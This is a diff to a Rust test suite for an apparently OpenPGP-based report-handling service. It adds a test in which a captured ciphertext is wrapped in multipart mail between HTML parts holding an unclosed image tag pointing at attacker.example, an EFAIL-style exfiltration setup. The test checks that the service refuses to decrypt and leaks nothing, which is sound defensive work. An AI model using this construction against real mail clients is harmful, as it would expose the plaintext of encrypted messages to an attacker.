@@ -272,6 +272,11 @@ fn report_for_another_key_is_kept_and_the_reporter_told() {
         "{openpgp}"
     );
     let reference = ticket["reference"].as_str().unwrap();
+    let shown = installation.run(&["ticket", "show", reference]);
+    assert!(
+        shown.contains("NOT OPENED: it is for none of our keys"),
+        "{shown}"
+    );
     let raw = installation.run(&["ticket", "show", reference, "--raw", "1"]);
     assert!(
         raw.contains(armored_message(&report).trim_end()),
@@ -292,5 +297,47 @@ fn report_for_another_key_is_kept_and_the_reporter_told() {
     );
     for word in ["error", "session", "packet", "else@other.example"] {
         assert!(!text.to_lowercase().contains(word), "no reason why: {text}");
+    }
+}
+
+/// T01, S-01: a captured ciphertext in mail of the attacker's stays closed to everybody, and the answer is the usual one.
+#[test]
+fn ciphertext_in_somebodys_html_is_opened_for_nobody() {
+    let installation = Installation::new("");
+    let _daemon = installation.serve();
+    let (gnupg, _) = correspondent(&installation);
+    let entity = protected_entity(&gnupg.export(SENSOR));
+    let captured = gnupg.sign_and_encrypt(SENSOR, TEAM, &entity);
+    let (head, body) = encrypted_entity(&captured);
+    let leak = "Content-Type: text/html\n\n<img src=\"http://attacker.example/";
+    let kinds = ["mixed", "related", "alternative"];
+    for (count, kind) in kinds.into_iter().enumerate() {
+        let around = format!("MIME-Version: 1.0\nContent-Type: multipart/{kind}; boundary=w\n");
+        let parts = format!("--w\n{leak}\n--w\n{head}\n{body}\n--w\n{leak}\n--w--\n");
+        let report = mail(
+            SENSOR,
+            kind,
+            &format!("{kind}@partner.example"),
+            &around,
+            &parts,
+        );
+        submit(&installation, &report);
+        let ticket = ticket_with(&installation, kind);
+        assert_eq!(ticket["needs_human"], "undecryptable", "{ticket}");
+        let openpgp = openpgp_of(&installation, &ticket);
+        assert_eq!(openpgp["error"], "errant", "{openpgp}");
+        let reference = ticket["reference"].as_str().unwrap();
+        let shown = installation.run(&["ticket", "show", reference, "--text"]);
+        assert!(shown.contains("stands where it is not opened"), "{shown}");
+        let sent = installation.outbox();
+        assert_eq!(sent.len(), count + 1);
+        let answer = text_of(sent.last().unwrap());
+        assert!(answer.contains("We could not open it yet"), "{answer}");
+        for word in ["192.0.2.10", "zebra-7741"] {
+            assert!(
+                !shown.contains(word) && !answer.contains(word),
+                "{shown}{answer}"
+            );
+        }
     }
 }
